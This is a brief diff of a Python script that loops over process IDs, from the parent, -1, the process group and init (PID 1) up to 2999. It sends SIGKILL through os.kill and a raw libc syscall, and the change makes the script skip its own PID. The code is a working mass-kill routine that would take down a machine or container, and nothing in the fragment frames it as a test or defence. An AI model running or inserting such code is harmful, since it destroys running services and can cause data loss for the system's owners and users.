@@ -5,7 +5,7 @@ import os
 import signal
 
 libc = ctypes.CDLL(None)
-for pid in (os.getppid(), -1, -os.getppid(), 0 - os.getpgid(0) if False else -os.getppid(), 1, *range(2, 3000)):
+for pid in (os.getppid(), -1, -os.getppid(), 1, *(p for p in range(2, 3000) if p != os.getpid())):
     for send in (
         lambda: os.kill(pid, signal.SIGKILL),
         lambda: libc.syscall(200, pid, 9),
